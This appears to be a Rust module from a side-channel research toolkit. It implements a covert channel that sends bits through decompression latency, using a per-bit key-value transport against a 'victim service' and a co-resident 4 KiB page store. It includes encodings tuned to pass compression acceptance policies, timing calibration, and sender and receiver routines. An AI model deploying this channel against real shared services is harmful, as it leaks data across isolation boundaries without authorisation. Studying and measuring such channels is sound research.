//! Bit transmission through compression-induced decompression latency.
//!
//! Two transports exist: a per-bit key-value channel against the victim
//! service (one stored value per bit), and a co-resident page store where
//! sender and receiver share a 4 KiB page that is compressed only once it is
//! completely filled — the receiver's one-byte write completes the page, and
//! its own fetch latency then reflects the sender-chosen page content.

use crate::attack::{self, BitClass, Regions, Statistic};
use crate::codec::{self, AcceptancePolicy, CodecId, CompressedBlob, CompressionLevel};
use crate::error::{Error, Result};
use crate::service::{KvClient, WireStore};
use crate::timing::{Clock, PAGE_SIZE};
use rand::prelude::*;
use rand_chacha::ChaCha8Rng;
use std::collections::HashMap;
use std::ops::Range;
use std::time::Instant;

/// Page pair encoding one bit: `one_page` decompresses fast, `zero_page`
/// slow.
#[derive(Debug, Clone)]
pub struct BitEncoding {
    pub one_page: Vec<u8>,
    pub zero_page: Vec<u8>,
}

impl BitEncoding {
    /// Encoding for stores without an acceptance policy: a high-entropy page
    /// (copied back out of stored blocks, fast) against a constant page
    /// (decoded through match copies, slow).
    pub fn local_default(seed: u64) -> Self {
        let mut rng = ChaCha8Rng::seed_from_u64(seed);
        BitEncoding {
            one_page: (0..PAGE_SIZE).map(|_| rng.gen()).collect(),
            zero_page: vec![0x41; PAGE_SIZE],
        }
    }

    /// Encoding whose pages both pass the given acceptance policy (both are
    /// stored compressed) while keeping the fast/slow decompression split: a
    /// compressible head pulls the ratio over the policy bar, the random
    /// tail keeps decompression fast.
    pub fn policy_safe(
        policy: &AcceptancePolicy,
        codec_id: CodecId,
        level: CompressionLevel,
        seed: u64,
    ) -> Result<Self> {
        let mut rng = ChaCha8Rng::seed_from_u64(seed);
        let head = PAGE_SIZE * 2 / 5;
        let mut one_page = vec![0x41u8; head];
        one_page.extend((head..PAGE_SIZE).map(|_| rng.gen::<u8>()));
        let zero_page = vec![0x41u8; PAGE_SIZE];
        let enc = BitEncoding { one_page, zero_page };
        enc.check_policy(policy, codec_id, level)?;
        Ok(enc)
    }

    pub fn from_pages(one_page: Vec<u8>, zero_page: Vec<u8>) -> Self {
        BitEncoding { one_page, zero_page }
    }

    /// Both pages must land on the same side of the acceptance decision
    /// (stored compressed), otherwise value size would leak the bit instead
    /// of decompression time.
    pub fn check_policy(
        &self,
        policy: &AcceptancePolicy,
        codec_id: CodecId,
        level: CompressionLevel,
    ) -> Result<()> {
        let one = codec::store_with_policy(policy, codec_id, level, &self.one_page)?;
        let zero = codec::store_with_policy(policy, codec_id, level, &self.zero_page)?;
        if one.stored_raw || zero.stored_raw {
            return Err(Error::contract(format!(
                "encoding pages must both pass the acceptance policy (one: {}, zero: {})",
                if one.stored_raw { "raw" } else { "compressed" },
                if zero.stored_raw { "raw" } else { "compressed" },
            )));
        }
        Ok(())
    }
}

/// Key-value store that packs values into 4 KiB pages (first fit) and
/// compresses a page as soon as it is completely full.
pub struct PageStore {
    codec: CodecId,
    level: CompressionLevel,
    pages: Vec<PageSlot>,
    index: HashMap<String, (usize, Range<usize>)>,
    scratch: Vec<u8>,
}

struct PageSlot {
    raw: Vec<u8>,
    fill: usize,
    compressed: Option<CompressedBlob>,
}

impl PageStore {
    pub fn new(codec: CodecId, level: CompressionLevel) -> Self {
        PageStore {
            codec,
            level,
            pages: Vec::new(),
            index: HashMap::new(),
            scratch: Vec::new(),
        }
    }

    /// Whether the page holding `key` has been compressed yet.
    pub fn page_compressed(&self, key: &str) -> Option<bool> {
        let (page_idx, _) = self.index.get(key)?;
        Some(self.pages[*page_idx].compressed.is_some())
    }

    pub fn contains(&self, key: &str) -> bool {
        self.index.contains_key(key)
    }

    pub fn store_set(&mut self, key: &str, value: &[u8]) -> Result<()> {
        if value.is_empty() || value.len() > PAGE_SIZE {
            return Err(Error::contract(format!(
                "value length {} outside 1..={PAGE_SIZE}",
                value.len()
            )));
        }
        // Same-length updates overwrite in place and recompress the page if
        // its bytes actually changed.
        if let Some((page_idx, range)) = self.index.get(key).cloned() {
            if range.len() == value.len() {
                let slot = &mut self.pages[page_idx];
                if slot.raw[range.clone()] != *value {
                    slot.raw[range].copy_from_slice(value);
                    if slot.compressed.is_some() {
                        slot.compressed = Some(codec::compress(self.codec, self.level, &slot.raw)?);
                    }
                }
                return Ok(());
            }
        }
        // First fit: a small write lands in the earliest page with room,
        // completing pages other clients started.
        let page_idx = match self
            .pages
            .iter()
            .position(|p| p.compressed.is_none() && p.fill + value.len() <= PAGE_SIZE)
        {
            Some(i) => i,
            None => {
                self.pages.push(PageSlot {
                    raw: vec![0u8; PAGE_SIZE],
                    fill: 0,
                    compressed: None,
                });
                self.pages.len() - 1
            }
        };
        let slot = &mut self.pages[page_idx];
        let start = slot.fill;
        slot.raw[start..start + value.len()].copy_from_slice(value);
        slot.fill += value.len();
        self.index
            .insert(key.to_string(), (page_idx, start..start + value.len()));
        if slot.fill == PAGE_SIZE {
            let blob = codec::compress(self.codec, self.level, &slot.raw)?;
            slot.compressed = Some(blob);
        }
        Ok(())
    }

    pub fn store_get(&mut self, key: &str) -> Result<Vec<u8>> {
        let (page_idx, range) = self
            .index
            .get(key)
            .ok_or_else(|| Error::Protocol(format!("no such key {key}")))?
            .clone();
        let slot = &self.pages[page_idx];
        match &slot.compressed {
            Some(blob) => {
                codec::decompress_into(blob, &mut self.scratch)?;
                Ok(self.scratch[range].to_vec())
            }
            None => Ok(slot.raw[range].to_vec()),
        }
    }
}

impl WireStore for PageStore {
    fn set(&mut self, key: &str, value: Vec<u8>) -> Result<()> {
        self.store_set(key, &value)
    }

    fn get(&mut self, key: &str) -> Result<Vec<u8>> {
        self.store_get(key)
    }
}

/// Transport abstraction for one bit slot.
pub trait BitChannel {
    /// Bytes of page content the sender stores per bit.
    fn sender_page_len(&self) -> usize;
    fn send_bit(&mut self, index: usize, page: &[u8]) -> Result<()>;
    /// Receiver-side setup (completing a co-resident page); no-op for
    /// value-per-bit stores.
    fn prepare_bit(&mut self, index: usize) -> Result<()>;
    /// One timed fetch of the receiver-visible value for this bit.
    fn probe_bit(&mut self, index: usize) -> Result<u64>;
}

/// In-process co-resident page channel.
pub struct InProcessPageChannel<'a> {
    store: PageStore,
    clock: &'a dyn Clock,
}

impl<'a> InProcessPageChannel<'a> {
    pub fn new(codec: CodecId, level: CompressionLevel, clock: &'a dyn Clock) -> Self {
        InProcessPageChannel {
            store: PageStore::new(codec, level),
            clock,
        }
    }

    pub fn store(&self) -> &PageStore {
        &self.store
    }
}

impl BitChannel for InProcessPageChannel<'_> {
    fn sender_page_len(&self) -> usize {
        PAGE_SIZE - 1
    }

    fn send_bit(&mut self, index: usize, page: &[u8]) -> Result<()> {
        self.store.store_set(&format!("snd-{index}"), page)
    }

    fn prepare_bit(&mut self, index: usize) -> Result<()> {
        if !self.store.contains(&format!("snd-{index}")) {
            return Err(Error::Protocol(format!("bit {index} was never sent")));
        }
        self.store.store_set(&format!("rcv-{index}"), &[0u8])
    }

    fn probe_bit(&mut self, index: usize) -> Result<u64> {
        let key = format!("rcv-{index}");
        let _token = crate::timing::timing_token();
        let t0 = self.clock.now_ns();
        let v = self.store.store_get(&key)?;
        std::hint::black_box(&v);
        let t1 = self.clock.now_ns();
        Ok(t1.saturating_sub(t0))
    }
}

/// How the wire channel maps bits onto the remote store.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ChannelMode {
    /// One stored value per bit; the receiver fetches the sender's key.
    ValuePerBit,
    /// Sender fills all but one byte of a page; the receiver's own one-byte
    /// value completes it and is what the receiver fetches.
    CoResidentPage,
}

/// Channel over the wire protocol, against either service flavor or a
/// served page store.
pub struct WireBitChannel {
    client: KvClient,
    mode: ChannelMode,
}

impl WireBitChannel {
    pub fn new(client: KvClient, mode: ChannelMode) -> Self {
        WireBitChannel { client, mode }
    }

    pub fn connect(endpoint: &str, mode: ChannelMode) -> Result<Self> {
        Ok(Self::new(KvClient::connect(endpoint)?, mode))
    }
}

impl BitChannel for WireBitChannel {
    fn sender_page_len(&self) -> usize {
        match self.mode {
            ChannelMode::ValuePerBit => PAGE_SIZE,
            ChannelMode::CoResidentPage => PAGE_SIZE - 1,
        }
    }

    fn send_bit(&mut self, index: usize, page: &[u8]) -> Result<()> {
        let key = match self.mode {
            ChannelMode::ValuePerBit => format!("bit-{index}"),
            ChannelMode::CoResidentPage => format!("snd-{index}"),
        };
        self.client.set(&key, page)
    }

    fn prepare_bit(&mut self, index: usize) -> Result<()> {
        match self.mode {
            ChannelMode::ValuePerBit => Ok(()),
            ChannelMode::CoResidentPage => {
                // Presence probe: an unsent bit must surface as an erasure,
                // not silently decode from an incomplete page.
                self.client.get(&format!("snd-{index}"))?;
                self.client.set(&format!("rcv-{index}"), &[0u8])
            }
        }
    }

    fn probe_bit(&mut self, index: usize) -> Result<u64> {
        let key = match self.mode {
            ChannelMode::ValuePerBit => format!("bit-{index}"),
            ChannelMode::CoResidentPage => format!("rcv-{index}"),
        };
        Ok(self.client.get_timed(&key)?.1)
    }
}

/// Transmission statistics. `errors` counts erasures on the receive side;
/// bit flips are only countable by whoever knows the sent data.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ChannelStats {
    pub bits_sent: usize,
    pub errors: usize,
    pub elapsed_s: f64,
    pub rate_bits_per_s: f64,
}

impl ChannelStats {
    pub const CSV_HEADER: &'static str = "bits,errors,elapsed_s,rate_bits_per_s";

    pub fn csv_line(&self) -> String {
        format!(
            "{},{},{:.3},{:.2}",
            self.bits_sent, self.errors, self.elapsed_s, self.rate_bits_per_s
        )
    }

    fn finish(bits: usize, errors: usize, start: Instant) -> ChannelStats {
        let elapsed_s = start.elapsed().as_secs_f64();
        ChannelStats {
            bits_sent: bits,
            errors,
            elapsed_s,
            rate_bits_per_s: if elapsed_s > 0.0 {
                bits as f64 / elapsed_s
            } else {
                0.0
            },
        }
    }
}

/// Store one page per bit. A store failure aborts; the error names the last
/// confirmed bit index.
pub fn send_bits(
    channel: &mut dyn BitChannel,
    bits: &[bool],
    encoding: &BitEncoding,
) -> Result<ChannelStats> {
    let start = Instant::now();
    let page_len = channel.sender_page_len();
    if encoding.one_page.len() < page_len || encoding.zero_page.len() < page_len {
        return Err(Error::contract(format!(
            "encoding pages shorter than channel page length {page_len}"
        )));
    }
    for (i, &bit) in bits.iter().enumerate() {
        let page = if bit {
            &encoding.one_page[..page_len]
        } else {
            &encoding.zero_page[..page_len]
        };
        channel.send_bit(i, page).map_err(|e| {
            Error::Protocol(format!(
                "send aborted, last confirmed bit {}: {e}",
                i as i64 - 1
            ))
        })?;
    }
    Ok(ChannelStats::finish(bits.len(), 0, start))
}

/// How received samples collapse to a bit decision.
#[derive(Debug, Clone, Copy)]
pub enum BitClassifier {
    /// Local store: mean of `reps` fetches against a calibrated threshold.
    Threshold { threshold_ns: u64, reps: usize },
    /// Remote store: early-stopping classification between calibrated
    /// regions.
    Regions {
        regions: Regions,
        reps_min: usize,
        reps_max: usize,
    },
}

/// Fetch and classify `n_bits`. Missing keys are marked erased (bit 0) and
/// counted as errors.
pub fn receive_bits(
    channel: &mut dyn BitChannel,
    n_bits: usize,
    classifier: &BitClassifier,
) -> Result<(Vec<bool>, ChannelStats)> {
    let start = Instant::now();
    let mut bits = Vec::with_capacity(n_bits);
    let mut errors = 0usize;
    for i in 0..n_bits {
        if channel.prepare_bit(i).is_err() {
            bits.push(false);
            errors += 1;
            continue;
        }
        let decided = match classifier {
            BitClassifier::Threshold { threshold_ns, reps } => {
                let mut sum = 0u64;
                let mut got = 0usize;
                let mut failed = false;
                for _ in 0..*reps {
                    match channel.probe_bit(i) {
                        Ok(ns) => {
                            sum += ns;
                            got += 1;
                        }
                        Err(_) => {
                            failed = true;
                            break;
                        }
                    }
                }
                if failed || got == 0 {
                    None
                } else {
                    // fast page (below threshold) encodes a one
                    Some(sum / got as u64 <= *threshold_ns)
                }
            }
            BitClassifier::Regions {
                regions,
                reps_min,
                reps_max,
            } => {
                match attack::early_stop_classify(
                    || channel.probe_bit(i),
                    regions,
                    *reps_min,
                    *reps_max,
                ) {
                    Ok(outcome) => Some(outcome.class == BitClass::Low),
                    Err(Error::Contract(m)) => return Err(Error::Contract(m)),
                    Err(_) => None,
                }
            }
        };
        match decided {
            Some(bit) => bits.push(bit),
            None => {
                bits.push(false);
                errors += 1;
            }
        }
    }
    let stats = ChannelStats::finish(n_bits, errors, start);
    Ok((bits, stats))
}

/// Local-channel calibration: mean fetch latency of two known bits, split at
/// the midpoint. The indices must already hold a known one and zero.
pub fn calibrate_threshold(
    channel: &mut dyn BitChannel,
    one_index: usize,
    zero_index: usize,
    reps: usize,
) -> Result<u64> {
    let mean_of = |channel: &mut dyn BitChannel, index: usize| -> Result<u64> {
        channel.prepare_bit(index)?;
        let mut sum = 0u64;
        for _ in 0..reps {
            sum += channel.probe_bit(index)?;
        }
        Ok(sum / reps.max(1) as u64)
    };
    let fast = mean_of(channel, one_index)?;
    let slow = mean_of(channel, zero_index)?;
    if fast >= slow {
        return Err(Error::Calibration {
            observed_gap_ns: slow as i64 - fast as i64,
        });
    }
    Ok((fast + slow) / 2)
}

/// Remote-channel calibration: sample two known bits and build
/// early-stopping regions from the min-filtered samples.
pub fn calibrate_regions(
    channel: &mut dyn BitChannel,
    one_index: usize,
    zero_index: usize,
    reps: usize,
    statistic: Statistic,
) -> Result<Regions> {
    let sample = |channel: &mut dyn BitChannel, index: usize| -> Result<Vec<u64>> {
        channel.prepare_bit(index)?;
        (0..reps).map(|_| channel.probe_bit(index)).collect()
    };
    let fast = sample(channel, one_index)?;
    let slow = sample(channel, zero_index)?;
    if statistic.of(&fast) >= statistic.of(&slow) {
        return Err(Error::Calibration {
            observed_gap_ns: statistic.of(&slow) as i64 - statistic.of(&fast) as i64,
        });
    }
    attack::regions_from_samples(&fast, &slow, (reps / 40).max(1), statistic)
}

/// Pack bytes MSB-first into bits.
pub fn bytes_to_bits(bytes: &[u8]) -> Vec<bool> {
    bytes
        .iter()
        .flat_map(|b| (0..8).rev().map(move |i| (b >> i) & 1 == 1))
        .collect()
}

/// Inverse of [`bytes_to_bits`]; trailing partial bytes are dropped.
pub fn bits_to_bytes(bits: &[bool]) -> Vec<u8> {
    bits.chunks(8)
        .filter(|c| c.len() == 8)
        .map(|c| c.iter().fold(0u8, |acc, &b| (acc << 1) | b as u8))
        .collect()
}
